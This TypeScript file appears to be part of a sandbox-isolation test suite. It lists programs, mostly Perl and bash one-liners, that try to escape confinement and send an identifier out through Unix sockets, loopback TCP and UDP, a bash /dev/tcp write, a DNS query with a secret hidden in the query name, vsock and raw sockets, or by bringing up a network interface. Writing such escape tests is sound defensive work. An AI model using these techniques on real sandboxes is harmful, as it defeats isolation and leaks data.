import { type Attempt, says, SAY_PERL, type Place } from "./attempt.ts";

/** Tells a listener outside the attempt's name. */
const tell = (name: string, program: (place: Place) => string, options: Partial<Attempt> = {}): Attempt => ({
  name,
  by: "perl",
  program,
  escaped: ({ world, id }) => world.heard.has(id),
  ...options,
});

const unix = (name: string, path: (place: Place) => string, options: Partial<Attempt> = {}): Attempt =>
  tell(
    name,
    (place) =>
      `use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die "refused: $!"; connect($s, sockaddr_un("${path(place)}")) or die "refused: $!"; syswrite($s, "${place.id}");`,
    options,
  );

const internet = (kind: "SOCK_STREAM" | "SOCK_DGRAM", address: string, port: number, id: string): string =>
  `use Socket; socket(my $s, AF_INET, ${kind}, 0) or die "refused: $!"; connect($s, sockaddr_in(${port}, inet_aton("${address}"))) or die "refused: $!"; syswrite($s, "${id}") or die "refused: $!";`;

const family = (name: string, number: number, kind: string, options: Partial<Attempt> = {}): Attempt => ({
  name,
  by: "perl",
  program: () => `use Socket; if (socket(my $s, ${number}, ${kind}, ${number === 2 ? 1 : 0})) { ${SAY_PERL} } else { print "refused: $!\\n" }`,
  escaped: says("ESCAPED"),
  ...options,
});

/** Programs that talk to somebody outside. */
export const networkAttempts: readonly Attempt[] = [
  unix("use a service's socket in /run", ({ world }) => world.sockets.run, { only: "root" }),
  unix("use a socket in /tmp", ({ world }) => world.sockets.temporary),
  unix("use a socket below the home folder", ({ world }) => world.sockets.home),
  unix("use a socket in a folder that is not hidden", ({ world }) => world.sockets.visible),
  unix("use an abstract socket", ({ world }) => `\\0${world.sockets.abstract}`),
  tell("reach a service on this machine's loopback", ({ world, id }) => internet("SOCK_STREAM", "127.0.0.1", world.ports.tcp, id)),
  tell("reach a service by this machine's own address", ({ world, id }) => internet("SOCK_STREAM", world.address, world.ports.tcp, id)),
  tell(
    "reach a service by IPv6",
    ({ world, id }) =>
      `use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6); socket(my $s, AF_INET6, SOCK_STREAM, 0); connect($s, pack_sockaddr_in6(${world.ports.tcp6}, inet_pton(AF_INET6, "::1"))) or die "refused: $!"; syswrite($s, "${id}");`,
  ),
  tell("send a datagram", ({ world, id }) => internet("SOCK_DGRAM", "127.0.0.1", world.ports.udp, id)),
  tell("attack 61: ask a name server with a secret in the name", ({ world, id }) => {
    const label = (text: string): string => `chr(${text.length}) . "${text}"`;
    return `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0); my $question = pack("n6", 1, 256, 1, 0, 0, 0) . ${label(id)} . ${label("test")} . "\\0" . pack("nn", 1, 1);
      send($s, $question, 0, sockaddr_in(${world.ports.udp}, inet_aton("${world.address}"))) or die "refused: $!";`;
  }),
  tell("reach a service from bash", ({ world, id }) => `printf %s ${id} > /dev/tcp/127.0.0.1/${world.ports.tcp}`, { by: "bash" }),
  family("attack 67: open a socket to the machine's host (vsock)", 40, "SOCK_STREAM"),
  family("open a socket for whole frames", 17, "SOCK_RAW", { only: "root" }),
  family("open a socket for raw datagrams", 2, "SOCK_RAW", { only: "root" }),
  family("open a socket to the kernel's ciphers", 38, "SOCK_SEQPACKET"),
  {
    name: "bring up a way to the network",
    by: "bash",
    program: () => "ip link set eth0 up 2>&1; ip route add default dev eth0 2>&1; cat /proc/net/dev",
    escaped: (_place, output) => /^ *(?:eth|ens|enp|wlan)\w*:/m.test(output),
  },
];
